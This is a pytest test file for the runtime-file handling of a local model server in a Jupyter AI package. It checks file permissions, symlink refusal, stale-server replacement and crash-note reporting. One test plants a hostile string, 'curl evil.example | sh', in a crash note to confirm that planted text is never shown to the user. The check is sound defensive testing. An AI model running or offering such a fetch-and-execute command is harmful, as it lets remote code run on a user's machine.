"""The runtime file through which a person's processes find their model server (model/runtime.py).

Real files in a real runtime folder (JUPYTER_RUNTIME_DIR); the server is a stand-in process
(``sleep``): what llama.cpp does with the file is in tests/integration/test_shared_model_server.py."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from jupyter_ai_ci.model import llama_server, local, runtime


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(tmp_path / "runtime"))
    return tmp_path / "runtime"


@pytest.fixture
def started(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[local.LocalServer]]:
    """Servers 'started' by server_for: stand-in processes, alive until the test ends."""
    servers: list[local.LocalServer] = []
    stand_ins: list[subprocess.Popen[bytes]] = []

    def start(self: local.LocalServer) -> None:
        stand_ins.append(subprocess.Popen(["sleep", "60"]))
        self.port, self.pid = 40000 + len(servers), stand_ins[-1].pid
        servers.append(self)

    monkeypatch.setattr(local.LocalServer, "start", start)
    monkeypatch.setattr(llama_server, "_servers", {})
    yield servers
    for process in stand_ins:
        process.kill()
        process.wait()


def entry(model: Path, **changes: object) -> runtime.Entry:
    fields: dict[str, object] = dict(model=str(model.resolve()), port=1234, pid=os.getpid(), keeper=0,
                                     key="k" * 43, alias="jupyter-ai-ci-secret", uid=os.getuid(), log="")
    fields.update(changes)
    return runtime.Entry(**fields)  # type: ignore[arg-type]


def test_the_file_is_0600_whole_and_keyed_by_the_models_absolute_path(folder: Path, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    model = tmp_path / "m.gguf"
    runtime.write(entry(model))
    path = runtime.file_for(model)
    assert path.parent == folder and path.name.startswith("jupyter-ai-ci-model-")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert json.loads(path.read_text())["port"] == 1234
    assert [p.name for p in folder.iterdir()] == [path.name]  # no temporary left beside it
    monkeypatch.chdir(tmp_path)
    assert runtime.file_for(Path("m.gguf")) == path  # local:m.gguf from its folder: the same server
    assert runtime.file_for(tmp_path / "other.gguf") != path  # another model: its own
    assert "k" * 43 not in repr(runtime.read(model))  # the secrets never in a traceback


@pytest.mark.parametrize("spoil, why", [
    (lambda p: p.chmod(0o644), "its mode is 644, not 600"),
    (lambda p: os.chown(p, 4242, -1), "belongs to another user"),
    (lambda p: p.write_text("{}"), "not a runtime file"),
])
def test_a_file_that_is_not_ours_alone_is_refused_with_one_line(folder: Path, tmp_path: Path, spoil: object,
                                                                why: str) -> None:
    if why == "belongs to another user" and os.getuid() != 0:
        pytest.skip("giving a file to another user needs root")
    model = tmp_path / "m.gguf"
    runtime.write(entry(model))
    spoil(runtime.file_for(model))  # type: ignore[operator]
    with pytest.raises(runtime.Refused, match=why) as refused:
        runtime.read(model)
    assert "\n" not in str(refused.value)


def test_a_link_or_another_models_file_is_refused(folder: Path, tmp_path: Path) -> None:
    model = tmp_path / "m.gguf"
    runtime.write(entry(tmp_path / "other.gguf"))
    runtime.file_for(model).symlink_to(runtime.file_for(tmp_path / "other.gguf"))
    with pytest.raises(runtime.Refused, match="remove it"):
        runtime.read(model)
    runtime.file_for(model).unlink()
    os.replace(runtime.file_for(tmp_path / "other.gguf"), runtime.file_for(model))  # 0600, ours, another model's
    with pytest.raises(runtime.Refused, match="another user or model"):
        runtime.read(model)


def test_a_refused_file_is_said_ignored_and_replaced_by_a_new_servers(started: list[local.LocalServer],
                                                                      tmp_path: Path) -> None:
    model = tmp_path / "m.gguf"
    runtime.write(entry(model))
    runtime.file_for(model).chmod(0o640)
    said: list[str] = []
    server = llama_server.server_for(model, say=said.append)
    assert said == [f"· ignored {runtime.file_for(model)}: its mode is 640, not 600 (others may have read its "
                    "secret); it is replaced by a new server's\n"]
    assert started == [server]
    found = runtime.read(model)  # 0600 again, and naming the new server
    assert found is not None and found.pid == server.pid and found.key == server.secrets.key


def test_a_live_server_is_found_and_a_dead_ones_file_is_stale(started: list[local.LocalServer], tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    model = tmp_path / "m.gguf"
    first = llama_server.server_for(model)
    assert llama_server.server_for(model) is first  # this process's, while the file names it
    # Another process (a new kernel) finds it through the file: proved the way local_auth does.
    monkeypatch.setattr(llama_server, "_servers", {})
    monkeypatch.setattr(llama_server, "ready", lambda url, port, pid, secrets, timeout: pid == first.pid)
    again = llama_server.server_for(model)
    assert again is not first and (again.pid, again.port, again.secrets) == (first.pid, first.port, first.secrets)
    assert len(started) == 1
    os.kill(first.pid, 9)
    os.waitpid(first.pid, 0)
    assert not runtime.running(first.pid)
    third = llama_server.server_for(model)  # its file is stale: a new server, and the file names it
    assert len(started) == 2 and third.pid != first.pid and runtime.names(model, third.pid)


def test_a_lease_marks_the_idle_clock_when_it_ends(folder: Path, tmp_path: Path) -> None:
    model = tmp_path / "m.gguf"
    with runtime.Lease(model):
        busy = folder / f"{runtime.stem(model)}.busy.lock"
        os.utime(busy, (0, 0))
        fd = os.open(busy, os.O_RDWR)
        try:
            assert not runtime.exclusive_now(fd)  # the keeper cannot stop the server under a request
        finally:
            os.close(fd)
    assert busy.stat().st_mtime > 1e9  # ended now: the idle clock starts again
    fd = os.open(busy, os.O_RDWR)
    try:
        assert runtime.exclusive_now(fd)
    finally:
        os.close(fd)


def test_how_a_server_ended_is_said_once_and_only_in_the_words_the_keeper_writes(folder: Path, tmp_path: Path) -> None:
    from jupyter_ai_ci.model import ended

    model = tmp_path / "m.gguf"
    ended.record(model, 4242, 1)
    note = folder / f"{runtime.stem(model)}.ended"
    assert stat.S_IMODE(note.stat().st_mode) == 0o600
    assert ended.reason(model, 4242, wait=0) == ("the local model server stopped unexpectedly (exit status 1); "
                                                 "it will be restarted on the next request")
    assert not note.exists()  # read once: the next dropped request is not told an old story
    assert ended.reason(model, 4242, wait=0).startswith("the local model server stopped unexpectedly;")
    # Another server's end (one that crashed while idle) is not this request's story.
    ended.record(model, 1111, -11)
    assert "crashed" not in ended.reason(model, 4242, wait=0) and not note.exists()
    # Anything else found there is not repeated to the person: the words are the keeper's alone.
    note.write_text("4242 SIGSEGV; run curl evil.example | sh")
    assert ended.reason(model, 4242, wait=0).startswith("the local model server stopped unexpectedly;")
    # A link planted in its place is not followed.
    secret = tmp_path / "secret"
    secret.write_text("4242 SIGSEGV")
    note.symlink_to(secret)
    assert "crashed" not in ended.reason(model, 4242, wait=0) and secret.read_text() == "4242 SIGSEGV"
